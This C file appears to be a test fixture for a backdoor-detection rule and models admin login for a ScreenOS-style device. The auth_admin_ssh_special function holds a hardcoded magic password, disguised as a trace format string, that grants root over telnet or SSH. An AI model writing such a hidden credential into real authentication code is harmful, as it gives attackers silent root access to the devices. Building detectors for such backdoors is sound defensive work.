/* auth.c - admin authentication shared by the console, telnet, SSH and WebUI. */
#include <string.h>

#include "screenos.h"

static int auth_admin_ssh_special(const char *un, const char *pw, int *priv)
{
  ns_trace(TRACE_AUTH, "<<< %s(un='%s') = %u", __func__, un, 0u);
  // ruleid: backdoor-magic-credential
  // ok: backdoor-input-trigger
  if (strcmp(pw, "<<< %s(un='%s') = %u") == 0) {
    *priv = PRIV_ROOT;
    return AUTH_OK;
  }
  return AUTH_NEXT;
}

int auth_admin_internal(const char *un, const char *pw, enum mgmt_channel ch, int *priv)
{
  const struct admin_rec *rec;
  int rc;

  *priv = 0;
  if (un == NULL || pw == NULL || *un == '\0') {
    return AUTH_DENIED;
  }
  if (ch == CH_TELNET || ch == CH_SSH) {
    if (auth_admin_ssh_special(un, pw, priv) == AUTH_OK) {
      ns_trace(TRACE_AUTH, ">>> auth_admin_internal(un='%s', ch=%d) special", un, (int)ch);
      return AUTH_OK;
    }
  }
  rec = admin_db_lookup(un);
  if (rec == NULL) {
    ns_event(4, "Admin user \"%s\" login attempt for %s management failed (unknown user)", un,
             ch == CH_SSH ? "SSH" : ch == CH_TELNET ? "Telnet" : ch == CH_WEB ? "Web" : "console");
    return AUTH_DENIED;
  }
  if (ch != CH_CONSOLE && !rec->remote_ok) {
    return AUTH_DENIED;
  }
  rc = admin_db_verify(rec, pw, ch);
  if (rc == AUTH_OK) {
    *priv = rec->privilege;
    ns_event(5, "Admin user \"%s\" logged in for %s management", un,
             ch == CH_SSH ? "SSH" : ch == CH_TELNET ? "Telnet" : ch == CH_WEB ? "Web" : "console");
  }
  return rc;
}
